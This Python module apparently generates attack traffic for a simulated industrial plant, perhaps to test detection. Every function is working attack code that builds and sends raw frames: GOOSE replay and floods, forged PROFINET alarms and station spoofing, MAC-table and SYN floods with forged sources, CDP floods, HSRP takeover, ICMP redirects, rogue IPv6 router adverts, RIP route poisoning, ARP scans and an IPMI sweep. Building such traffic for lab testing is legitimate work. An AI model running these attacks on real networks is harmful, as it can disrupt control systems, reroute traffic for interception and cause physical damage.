"""Frames of raids: what others said said again, senders that do not exist, ways and names taken over."""

from __future__ import annotations

import contextlib
import hashlib
import socket
import struct
import time
from typing import TYPE_CHECKING, Final

from interlock.plant.machines import BY_NAME
from interlock.plant.protocols.goose import ETHERTYPE as GOOSE
from interlock.plant.protocols.network import ARP, arp
from interlock.plant.protocols.profinet import ETHERTYPE as PROFINET
from interlock.plant.protocols.profinet import IDENTIFY_GROUP, identify
from interlock.plant.wire.frames import End, ethernet, internet_checksum, tcp, udp
from proving.clients.talk import INTERFACE, send_frames, tell

if TYPE_CHECKING:
    from collections.abc import Callable

_EVERYBODY: Final = End(b"\xff" * 6, b"\xff" * 4)
_LAPTOP: Final = BY_NAME["vendor-laptop"].end
_GOOSE_GROUP: Final = bytes.fromhex("010ccd010001")
_ALARM_LOW: Final = 0xFE01


def _forged(number: int) -> End:
    octets = hashlib.sha256(number.to_bytes(4, "big")).digest()
    return End(b"\x00" + octets[:5], bytes((10, 77, *octets[6:8])))


def _end(to: str) -> End:
    return next(machine.end for machine in BY_NAME.values() if machine.ip == to)


def _ip(source: End, target: End, protocol: int, payload: bytes, lives: int = 64) -> bytes:
    size = 20 + len(payload)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, size, 9, 0, lives, protocol, 0, source.ip, target.ip)
    head = head[:10] + internet_checksum(head).to_bytes(2, "big") + head[12:]
    return ethernet(target.mac, source.mac, 0x0800, head + payload)


def goose_heard(seconds: float) -> list[bytes]:
    """Frames of GOOSE that this machine hears, as its port gives them."""
    heard = []
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as link:
        link.bind((INTERFACE, 0))
        link.settimeout(0.2)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            with contextlib.suppress(TimeoutError):
                frame = link.recv(4096)
                if frame[12:14] == GOOSE.to_bytes(2, "big") or frame[16:18] == GOOSE.to_bytes(2, "big"):
                    heard.append(frame)
    return heard


def goose_replayed(to: str) -> None:  # noqa: ARG001 - to a group
    """GOOSE: what was heard for some seconds is said again, as it was."""
    heard = goose_heard(9.0)
    time.sleep(6.0)
    send_frames(heard * 3, 0.5)


def goose_poured(to: str) -> None:  # noqa: ARG001 - to a group
    """GOOSE: a thousand messages of publishers that do not exist, so that nobody hears the true one."""
    frames = []
    for number in range(1000):
        body = bytes((0x80, 4)) + struct.pack("!I", number) + bytes(30)
        pdu = bytes((0x61, len(body))) + body
        head = struct.pack("!HHHH", 0x3000 + number % 64, len(pdu) + 8, 0, 0)
        frames.append(ethernet(_GOOSE_GROUP, _LAPTOP.mac, GOOSE, head + pdu))
    send_frames(frames, 0.005)


def alarms_forged(to: str) -> None:
    """PROFINET: alarms in a remote I/O's name, its module pulled (low priority)."""
    mine, target = BY_NAME["rio-boiler"].end.mac, _end(to).mac
    frames = []
    for number in range(6):
        pulled = struct.pack("!HHBBHIHHIIH", 2, 24, 1, 0, 3, 0, 1, 1, 1, 1, 0xA800 + number)
        rta = struct.pack("!HHBBHHH", 1, 1, 0x11, 0x11, number, 0xFFFF, len(pulled)) + pulled
        frames.append(ethernet(target, mine, PROFINET, struct.pack("!H", _ALARM_LOW) + rta))
    send_frames(frames, 0.7)


def greeted_as_station(to: str) -> None:  # noqa: ARG001 - to the group
    """PROFINET: a station of the remote I/O's name says hello, with another address."""
    blocks = struct.pack("!BBHH", 2, 2, 12, 0) + b"rio-boiler"
    blocks += struct.pack("!BBHH", 1, 2, 14, 1) + bytes((10, 77, 1, 40, 255, 255, 255, 0, 0, 0, 0, 0))
    body = struct.pack("!HBBIHH", 0xFEFC, 6, 0, 0x7777, 0, len(blocks)) + blocks
    frame = ethernet(bytes.fromhex("010ecf000001"), _LAPTOP.mac, PROFINET, body)
    send_frames([frame] * 4, 1.0)


def stations_flooded(to: str) -> None:  # noqa: ARG001 - to the group
    """PROFINET: everybody asked who he is by two thousand senders that do not exist."""
    send_frames([ethernet(IDENTIFY_GROUP, _forged(n).mac, PROFINET, identify(n)) for n in range(2000)], 0.002)


def table_filled(to: str) -> None:  # noqa: ARG001 - to nobody
    """Frames of three thousand senders to as many who do not exist: a switch forgets who is where (macof)."""
    frames = [tcp(_forged(n), _forged(n + 50_000), (1024 + n, 2048 + n), (n, 0), 2) for n in range(3000)]
    send_frames(frames, 0.002)


def greetings_forged(to: str) -> None:
    """TCP: three thousand connections begun by addresses that do not exist (hping3 --rand-source)."""
    frames = []
    for number in range(3000):
        source = End(_LAPTOP.mac, _forged(number).ip)
        frames.append(tcp(source, _end(to), (1024 + number, 502), (number, 0), 2))
    send_frames(frames, 0.002)


def neighbours_flooded(to: str) -> None:  # noqa: ARG001 - to the group
    """CDP: neighbours that do not exist, hundreds of them (yersinia)."""
    frames = []
    for number in range(400):
        name = f"SW{number:05d}".encode("ascii")
        body = b"\x02\xff\0\0" + struct.pack("!HH", 1, 4 + len(name)) + name + b"\0\x04\0\x08\0\0\0\x28"
        body = body[:2] + internet_checksum(body).to_bytes(2, "big") + body[4:]
        llc = b"\xaa\xaa\x03\x00\x00\x0c\x20\x00" + body
        frames.append(bytes.fromhex("01000ccccccc") + _forged(number).mac + struct.pack("!H", len(llc)) + llc)
    send_frames(frames, 0.02)


def standby_taken(to: str) -> None:
    """HSRP: the active router is here, of the highest priority (coup, hello)."""
    virtual = socket.inet_aton(to)
    group = End(bytes.fromhex("01005e000002"), bytes((224, 0, 0, 2)))
    frames = []
    for number in range(10):
        body = bytes((0, 1 if number == 0 else 0, 16, 3, 10, 255, 1, 0)) + b"cisco\0\0\0" + virtual
        frames.append(udp(_LAPTOP, group, (1985, 1985), body))
    send_frames(frames, 1.0)


def sent_elsewhere(to: str) -> None:
    """ICMP: the panel is told that its way to a controller is by the attacker (redirect)."""
    panel, water, gate = _end(to), BY_NAME["plc-water"].end, BY_NAME["switch"].end
    inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, 6, 0, panel.ip, water.ip) + bytes(8)
    head = struct.pack("!BBH4s", 5, 1, 0, _LAPTOP.ip)
    sum_ = internet_checksum(head + inner)
    body = head[:2] + sum_.to_bytes(2, "big") + head[4:] + inner
    send_frames([_ip(End(_LAPTOP.mac, gate.ip), panel, 1, body)] * 5, 1.0)


def six_routed(to: str) -> None:  # noqa: ARG001 - to everybody
    """ICMPv6: a router for everybody, with a prefix and a name server (fake_router6)."""
    source = bytes.fromhex("fe8000000000000056e1adfffe5a1028")
    group = bytes.fromhex("ff020000000000000000000000000001")
    options = b"\x01\x01" + _LAPTOP.mac + b"\x03\x04\x40\xc0" + struct.pack("!III", 9000, 9000, 0)
    options += bytes.fromhex("20010db8000000000000000000000000")
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + options
    pseudo = source + group + struct.pack("!II", len(body), 58)
    body = body[:2] + internet_checksum(pseudo + body).to_bytes(2, "big") + body[4:]
    ip = struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + source + group
    frame = ethernet(bytes.fromhex("333300000001"), _LAPTOP.mac, 0x86DD, ip + body)
    send_frames([frame] * 6, 1.0)


def ways_told(to: str) -> None:  # noqa: ARG001 - to everybody
    """RIP: ways to every network by the attacker."""
    body = b"\x02\x02\0\0"
    for net in (0, 10, 192):
        body += struct.pack("!HHBBBBIII", 2, 0, net, 0, 0, 0, 0xFF000000 if net else 0, 0, 1)
    group = End(bytes.fromhex("01005e000009"), bytes((224, 0, 0, 9)))
    send_frames([udp(_LAPTOP, group, (520, 520), body)] * 4, 1.5)


def addresses_asked(to: str) -> None:
    """ARP: every address of the network asked for, by the panel itself."""
    mine = BY_NAME["hmi"].end
    net = socket.inet_aton(to)[:3]
    asked = [End(bytes(6), net + bytes((host,))) for host in range(1, 120)]
    send_frames([ethernet(_EVERYBODY.mac, mine.mac, ARP, arp(1, mine, one)) for one in asked], 0.03)


def addresses_asked_slowly(to: str) -> None:
    """ARP: one address after another, one every two seconds and a half, by the historian."""
    mine = BY_NAME["historian"].end
    net = socket.inet_aton(to)[:3]
    asked = [End(bytes(6), net + bytes((host,))) for host in range(10, 42)]
    send_frames([ethernet(_EVERYBODY.mac, mine.mac, ARP, arp(1, mine, one)) for one in asked], 2.5)


def boards_searched(to: str) -> None:
    """IPMI: who has a board of its own is asked, address by address (ipmi_version)."""
    octets = bytes.fromhex("0600ff07000000000000000000092018c88100388e04b5")
    net = to.rpartition(".")[0]
    for host in range(10, 34):
        tell(f"{net}.{host}", 623, octets, pause_s=0.15)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "goose-replayed": goose_replayed,
    "goose-poured": goose_poured,
    "alarms-forged": alarms_forged,
    "greeted-as-station": greeted_as_station,
    "stations-flooded": stations_flooded,
    "table-filled": table_filled,
    "greetings-forged": greetings_forged,
    "neighbours-flooded": neighbours_flooded,
    "standby-taken": standby_taken,
    "sent-elsewhere": sent_elsewhere,
    "six-routed": six_routed,
    "ways-told": ways_told,
    "addresses-asked": addresses_asked,
    "addresses-asked-slowly": addresses_asked_slowly,
    "boards-searched": boards_searched,
}
